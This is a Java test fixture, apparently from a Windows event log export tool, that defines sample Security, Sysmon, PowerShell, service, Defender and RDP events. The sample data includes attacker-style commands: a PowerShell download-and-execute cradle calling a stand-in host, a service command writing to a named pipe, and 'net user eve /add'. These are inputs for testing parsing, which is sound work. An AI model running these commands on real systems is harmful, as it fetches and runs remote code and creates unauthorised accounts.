package io.bartizan.cli.exports;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * A Windows event that tests export in every form.
 *
 * @param name what tests call it
 * @param provider who wrote it
 * @param id its event id
 * @param channel where
 * @param data its values by their names, in the order of its template
 * @param around the element around the data below {@code UserData}; empty for {@code EventData}
 * @param message what Windows shows
 */
record Sample(
    String name,
    String provider,
    int id,
    String channel,
    Map<String, String> data,
    String around,
    String message) {

  static final String COMPUTER = "WS-07.clinic.example";
  static final String TIME = "2026-03-24T05:06:07.1230000Z";
  static final long MILLIS = 1_774_328_767_123L;
  static final long RECORD = 4711;
  static final int PID = 1044;
  static final int TID = 2088;

  private static Map<String, String> data(String... pairs) {
    Map<String, String> data = new LinkedHashMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      data.put(pairs[i], pairs[i + 1]);
    }
    return data;
  }

  private static String labels(String title, Map<String, String> data) {
    List<String> lines = new ArrayList<>(List.of(title));
    data.forEach((name, value) -> lines.add(name + ": " + value));
    return String.join("\r\n", lines);
  }

  static final Sample SYSMON_1 = sysmon();
  static final Sample PROCESS = process();
  static final Sample LOGON = logon();

  static final Sample SCRIPT =
      new Sample(
          "powershell-4104",
          "Microsoft-Windows-PowerShell",
          4104,
          "Microsoft-Windows-PowerShell/Operational",
          data(
              "MessageNumber", "1",
              "MessageTotal", "1",
              "ScriptBlockText",
                  "IEX (New-Object Net.WebClient).DownloadString(\"http://x/ä<y>&z\")",
              "ScriptBlockId", "e3013ff9-7017-47b3-9150-dda5a8860adb",
              "Path", "C:\\Users\\ann\\a.ps1"),
          "",
          """
          Creating Scriptblock text (1 of 1):
          IEX (New-Object Net.WebClient).DownloadString("http://x/ä<y>&z")

          ScriptBlock ID: e3013ff9-7017-47b3-9150-dda5a8860adb
          Path: C:\\Users\\ann\\a.ps1\
          """
              .replace("\n", "\r\n"));

  static final Sample SERVICE =
      new Sample(
          "service-7045",
          "Service Control Manager",
          7045,
          "System",
          data(
              "ServiceName", "tbbd05",
              "ImagePath", "%COMSPEC% /c echo x > \\\\.\\pipe\\tbbd05",
              "ServiceType", "user mode service",
              "StartType", "demand start",
              "AccountName", "LocalSystem"),
          "",
          """
          A service was installed in the system.

          Service Name:  tbbd05
          Service File Name:  %COMSPEC% /c echo x > \\\\.\\pipe\\tbbd05
          Service Type:  user mode service
          Service Start Type:  demand start
          Service Account:  LocalSystem\
          """
              .replace("\n", "\r\n"));

  static final Sample CLEARED =
      new Sample(
          "cleared-1102",
          "Microsoft-Windows-Eventlog",
          1102,
          "Security",
          data(
              "SubjectUserSid", "S-1-5-21-1-2-3-500",
              "SubjectUserName", "ann",
              "SubjectDomainName", "CLINIC",
              "SubjectLogonId", "0x3e7a"),
          "LogFileCleared",
          "The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-2-3-500\r\n"
              + "\tAccount Name:\tann\r\n\tDomain Name:\tCLINIC\r\n\tLogon ID:\t0x3E7A");

  static final Sample DEFENDER = defender();

  static final Sample REMOTE =
      new Sample(
          "rdp-1149",
          "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
          1149,
          "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
          data("Param1", "ann", "Param2", "CLINIC", "Param3", "10.9.8.7"),
          "EventXML",
          "Remote Desktop Services: User authentication succeeded:\r\n\r\nUser: ann\r\n"
              + "Domain: CLINIC\r\nSource Network Address: 10.9.8.7");

  static final List<Sample> ALL =
      List.of(SYSMON_1, PROCESS, LOGON, SCRIPT, SERVICE, CLEARED, DEFENDER, REMOTE);

  private static Sample sysmon() {
    Map<String, String> data =
        data(
            "RuleName", "-",
            "UtcTime", "2026-03-24 05:06:07.123",
            "ProcessGuid", "{747f3d96-4a10-5f5e-6b00-000000000500}",
            "ProcessId", "5168",
            "Image", "C:\\Windows\\System32\\whoami.exe",
            "FileVersion", "10.0.19041.1",
            "Description", "whoami - displays logged on user information",
            "Product", "Microsoft® Windows® Operating System",
            "Company", "Microsoft Corporation",
            "OriginalFileName", "whoami.exe",
            "CommandLine", "whoami  /priv \"a;b,c\" <&> ä",
            "CurrentDirectory", "C:\\Users\\ann\\",
            "User", "CLINIC\\ann",
            "LogonGuid", "{747f3d96-4a10-5f5e-6b00-000000000501}",
            "LogonId", "0x3e7a",
            "TerminalSessionId", "1",
            "IntegrityLevel", "High",
            "Hashes", "SHA1=A1,MD5=B2,SHA256=C3,IMPHASH=D4",
            "ParentProcessGuid", "{747f3d96-4a10-5f5e-6b00-000000000502}",
            "ParentProcessId", "4020",
            "ParentImage", "C:\\Windows\\System32\\cmd.exe",
            "ParentCommandLine", "\"C:\\Windows\\System32\\cmd.exe\" /c \\\\srv\\share\\x.bat",
            "ParentUser", "CLINIC\\ann");
    return new Sample(
        "sysmon-1",
        "Microsoft-Windows-Sysmon",
        1,
        "Microsoft-Windows-Sysmon/Operational",
        data,
        "",
        labels("Process Create:", data));
  }

  private static Sample process() {
    Map<String, String> data =
        data(
            "SubjectUserSid", "S-1-5-21-1-2-3-1104",
            "SubjectUserName", "ann",
            "SubjectDomainName", "CLINIC",
            "SubjectLogonId", "0x3e7a",
            "NewProcessId", "0x1430",
            "NewProcessName", "C:\\Windows\\System32\\net.exe",
            "TokenElevationType", "%%1937",
            "ProcessId", "0xfb4",
            "CommandLine", "net  user eve /add",
            "TargetUserSid", "S-1-0-0",
            "TargetUserName", "-",
            "TargetDomainName", "-",
            "TargetLogonId", "0x0",
            "ParentProcessName", "C:\\Windows\\System32\\cmd.exe",
            "MandatoryLabel", "S-1-16-12288");
    return new Sample(
        "security-4688",
        "Microsoft-Windows-Security-Auditing",
        4688,
        "Security",
        data,
        "",
        """
        A new process has been created.

        Creator Subject:
        \tSecurity ID:\t\tS-1-5-21-1-2-3-1104
        \tAccount Name:\t\tann
        \tAccount Domain:\t\tCLINIC
        \tLogon ID:\t\t0x3E7A

        Target Subject:
        \tSecurity ID:\t\tS-1-0-0
        \tAccount Name:\t\t-
        \tAccount Domain:\t\t-
        \tLogon ID:\t\t0x0

        Process Information:
        \tNew Process ID:\t\t0x1430
        \tNew Process Name:\tC:\\Windows\\System32\\net.exe
        \tToken Elevation Type:\t%%1937
        \tMandatory Label:\t\tS-1-16-12288
        \tCreator Process ID:\t0xfb4
        \tCreator Process Name:\tC:\\Windows\\System32\\cmd.exe
        \tProcess Command Line:\tnet  user eve /add

        Token Elevation Type indicates the type of token that was assigned to the new process.
        """
            .strip()
            .replace("\n", "\r\n"));
  }

  private static Sample logon() {
    Map<String, String> data =
        data(
            "SubjectUserSid", "S-1-0-0",
            "SubjectUserName", "-",
            "SubjectDomainName", "-",
            "SubjectLogonId", "0x0",
            "TargetUserSid", "S-1-5-21-1-2-3-1104",
            "TargetUserName", "ann",
            "TargetDomainName", "CLINIC",
            "TargetLogonId", "0x5a5a5a",
            "LogonType", "3",
            "LogonProcessName", "NtLmSsp ",
            "AuthenticationPackageName", "NTLM",
            "WorkstationName", "KALI",
            "LogonGuid", "{00000000-0000-0000-0000-000000000000}",
            "TransmittedServices", "-",
            "LmPackageName", "NTLM V2",
            "KeyLength", "0",
            "ProcessId", "0x0",
            "ProcessName", "-",
            "IpAddress", "10.9.8.7",
            "IpPort", "50112");
    return new Sample(
        "security-4624",
        "Microsoft-Windows-Security-Auditing",
        4624,
        "Security",
        data,
        "",
        """
        An account was successfully logged on.

        Subject:
        \tSecurity ID:\t\tS-1-0-0
        \tAccount Name:\t\t-
        \tAccount Domain:\t\t-
        \tLogon ID:\t\t0x0

        Logon Type:\t\t\t3

        New Logon:
        \tSecurity ID:\t\tS-1-5-21-1-2-3-1104
        \tAccount Name:\t\tann
        \tAccount Domain:\t\tCLINIC
        \tLogon ID:\t\t0x5A5A5A
        \tLogon GUID:\t\t{00000000-0000-0000-0000-000000000000}

        Process Information:
        \tProcess ID:\t\t0x0
        \tProcess Name:\t\t-

        Network Information:
        \tWorkstation Name:\tKALI
        \tSource Network Address:\t10.9.8.7
        \tSource Port:\t\t50112

        Detailed Authentication Information:
        \tLogon Process:\t\tNtLmSsp\s
        \tAuthentication Package:\tNTLM
        \tTransited Services:\t-
        \tPackage Name (NTLM only):\tNTLM V2
        \tKey Length:\t\t0

        This event is generated when a logon session is created: on the computer that was accessed.
        """
            .strip()
            .replace("\n", "\r\n"));
  }

  private static Sample defender() {
    String names =
        "Product Name|Product Version|Detection ID|Detection Time|Unused|Unused2|Threat ID|Threat"
            + " Name|Severity ID|Severity Name|Category ID|Category Name|FWLink|Status Code|Status"
            + " Description|State|Source ID|Source Name|Process Name|Detection"
            + " User|Unused3|Path|Origin ID|Origin Name|Execution ID|Execution Name|Type ID|Type"
            + " Name|Pre Execution Status|Action ID|Action Name|Unused4|Error Code|Error"
            + " Description|Unused5|Post Clean Status|Additional Actions ID|Additional Actions"
            + " String|Remediation User|Unused6|Signature Version|Engine Version";
    Map<String, String> data = new LinkedHashMap<>();
    for (String name : names.split("\\|", -1)) {
      data.put(name, name.startsWith("Unused") ? "" : "0");
    }
    data.put("Threat Name", "HackTool:Win64/Mikatz!dha");
    data.put("Severity Name", "High");
    data.put("Category Name", "Tool");
    data.put("Process Name", "C:\\Windows\\explorer.exe");
    data.put("Detection User", "CLINIC\\ann");
    data.put("Path", "file:_C:\\Users\\ann\\m.exe");
    data.put("Error Code", "0x00000000");
    return new Sample(
        "defender-1116",
        "Microsoft-Windows-Windows Defender",
        1116,
        "Microsoft-Windows-Windows Defender/Operational",
        data,
        "",
        """
        Microsoft Defender Antivirus has detected malware or other potentially unwanted software.
         For more information please see the following:
        https://go.microsoft.com/fwlink/?linkid=37020&name=HackTool:Win64/Mikatz!dha&threatid=1
         \tName: HackTool:Win64/Mikatz!dha
         \tID: 0
         \tSeverity: High
         \tCategory: Tool
         \tPath: file:_C:\\Users\\ann\\m.exe
         \tDetection Origin: 0
         \tDetection Type: 0
         \tDetection Source: 0
         \tUser: CLINIC\\ann
         \tProcess Name: C:\\Windows\\explorer.exe
         \tSignature Version: 0
         \tEngine Version: 0
        """
            .strip()
            .replace("\n", "\r\n"));
  }

  boolean isUserData() {
    return !around.isEmpty();
  }

  /** A form of the event in a file. */
  record Export(String tool, String file, String text) {}
}
